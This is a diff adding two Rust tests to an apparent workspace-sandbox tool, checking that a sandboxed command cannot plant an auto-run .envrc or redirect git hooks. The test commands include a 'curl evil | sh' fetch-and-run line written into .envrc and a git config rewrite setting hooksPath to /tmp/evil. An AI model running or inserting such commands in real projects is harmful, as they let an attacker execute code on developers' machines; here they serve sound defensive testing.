@@ -419,3 +419,49 @@ fn allow_git_writes_lets_commits_through_but_not_code() {
         .unwrap();
     assert!(stdout(&log).contains("inside"), "{}", stdout(&log));
 }
+
+#[test]
+fn a_pin_lost_after_signals_still_stops_the_run() {
+    let dir = TestDir::new("pinlost-signals");
+    let run = Run::new(&dir).arg("--quiet");
+    // CMD makes pid 1 read signals first (SIGCHLD from an orphan, one sent by hand), then
+    // waits for the host to drop a pin.
+    let child = run
+        .command(
+            "(true &); kill -CHLD 1; touch started; sleep 2; echo 'curl evil | sh' > .envrc && echo PLANTED; echo FINISHED",
+        )
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    while !run.workspace.join("started").exists() {
+        assert!(std::time::Instant::now() < deadline, "CMD never started");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    std::thread::sleep(Duration::from_millis(200));
+    std::fs::remove_dir(run.workspace.join(".envrc")).unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
+    assert!(!stdout(&out).contains("PLANTED"), "{}", stdout(&out));
+    assert!(!run.workspace.join(".envrc").exists());
+}
+
+#[test]
+fn git_dir_cannot_be_renamed_away_under_allow_git_writes() {
+    let dir = TestDir::new("gitrename");
+    let run = Run::new(&dir).arg("--quiet").arg("--allow-git-writes");
+    git_init(&run.workspace);
+    let before = std::fs::read_to_string(run.workspace.join(".git/config")).unwrap();
+    let out = run.sh(
+        "mv .git .git-old 2>/dev/null && echo MOVED; \
+         mkdir -p .git/hooks 2>/dev/null; printf '[core]\\n\\thooksPath = /tmp/evil\\n' > .git/config 2>/dev/null && echo WROTE; \
+         echo x > .git/objects/probe && echo OBJECTS_WRITABLE",
+    );
+    assert_eq!(stdout(&out), "OBJECTS_WRITABLE\n", "{}", stderr(&out));
+    assert_eq!(
+        std::fs::read_to_string(run.workspace.join(".git/config")).unwrap(),
+        before
+    );
+    assert!(!run.workspace.join(".git-old").exists());
+}
